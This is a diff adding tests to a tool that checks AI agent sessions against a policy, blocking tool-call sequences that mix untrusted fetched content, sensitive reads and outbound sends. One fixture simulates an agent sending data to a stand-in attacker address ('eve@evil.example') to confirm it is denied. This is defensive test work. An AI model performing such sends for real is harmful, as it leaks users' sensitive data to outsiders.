@@ -154,6 +154,43 @@ def check_text_names_the_denied_step(t):
 
 
 @test
+def check_text_says_why_nothing_was_vouched(t):
+    policy = put(t, "policy.yaml", ASKS.replace("  t: {trust: inside}\n", "  t: {trust: inside}\n  far: {trust: outside}\n")
+                 .replace("  - {match: own,", "  - {match: far.note, effects: []}\n  - {match: own,"))
+    more = {"tool": "t.send", "args": {"to": "eve@evil.example", "extra": 1}}
+    steps = [FETCH, READ, {"tool": "t.send", "args": {"to": "eve@evil.example"}}, more, POST, {"tool": "far.note"}, {"tool": "t.none"}]
+    run = Run("check", "--policy", policy, stdin=sessions({"steps": steps})).exits(1)
+    for text in ("the session has untrusted from t.fetch (call 1), sensitive from t.read (call 2)\n",
+                 "not vouched: argument `to`: an email is not listed for what this session holds\n", "a human could release it once\n",
+                 "not vouched: the call names no destination that the entry declares\n",
+                 "its way out is standing, so no human can release it\n", "not vouched: the server is outside", "the policy has no entry for this tool\n"):
+        run.says(text, "out")
+    if "(approval " in run.out or "tell the user" in run.out:
+        run.fail("an approval that does not exist, or a sentence for the model")
+
+
+@test
+def check_json_says_why_when_it_is_asked_to(t):
+    policy, text = put(t, "policy.yaml", POLICY), sessions({"steps": [FETCH, {**SEND, "args": {"to": "nonsense"}}, POST]})
+    plain, more = (json.loads(Run("check", "--policy", policy, "--json", *args, stdin=text).exits(0).out.splitlines()[0])["decisions"] for args in ([], ["--explain"]))
+    same([list(d) for d in plain], [["step", "tool", "effects", "action", "layer", "reason"]] * 3)
+    same([d.pop("why") for d in more],
+         [None, "argument `to`: a value cannot be read as an email", "the call names no destination that the entry declares"])
+    same(more, plain)
+
+
+@test
+def check_warns_of_members_that_are_arguments_elsewhere(t):
+    policy = put(t, "policy.yaml", POLICY)
+    path = put(t, "s.ndjson", sessions({"steps": [FETCH]}, {"steps": [FETCH, {"tool": "t.read", "arguments": {}}]}, {"steps": [{"tool": "t.read", "input": 1}]}))
+    run = Run("check", "--policy", policy, "--json", path).exits(0).says("s.ndjson:2:67: warning: `arguments` is ignored: a call's arguments stand in `args`\n")
+    if run.err.count("warning") != 1:
+        run.fail("want one warning a file")
+    Run("check", "--policy", policy, stdin=sessions({"steps": [{"tool": "t.read", "tool_name": "t.post"}]})).exits(0).says("<stdin>:1:").says("`tool`")
+    same(Run("check", "--policy", policy, stdin=sessions({"steps": [{**FETCH, "note": 1}]})).exits(0).err, "")
+
+
+@test
 def check_text_cannot_drive_a_terminal(t):
     run = Run("check", "--policy", put(t, "policy.yaml", POLICY), stdin=sessions({"id": "\x1b[31m\u202e\u009b", "steps": [{"tool": "a\x1b]0;b\x07"}]}))
     run.exits(1).says("\\u{1b}[31m\\u{202e}\\u{9b}", "out").says("a\\u{1b}]0;b\\u{7}", "out")
@@ -255,6 +292,13 @@ def replay_shows_flips_both_ways(t):
     same([(f["step"], f["policy"]["action"], f["against"]["action"], f["against"]["reason"]) for f in from_allow[0]["flips"]],
          [(3, "allow", "block", "lethal-trifecta")])
     same((from_allow[1]["summary"]["to_allow"], from_allow[1]["summary"]["from_allow"]), (0, 1))
+
+
+@test
+def replay_text_counts_flips(t):
+    loose, tight = put(t, "loose.yaml", POLICY.replace("t.read, effects: [sensitive]", "t.read, effects: []")), put(t, "tight.yaml", POLICY)
+    Run("replay", "--policy", tight, "--against", loose, stdin=sessions({"id": "a", "steps": [FETCH, READ, POST]})).exits(1).says("a: 3 steps, 1 flip\n", "out")
+    Run("replay", "--policy", tight, "--against", loose, stdin=sessions({"id": "a", "steps": [FETCH, READ, POST, POST]})).exits(1).says("a: 4 steps, 2 flips\n", "out")
 
 
 @test
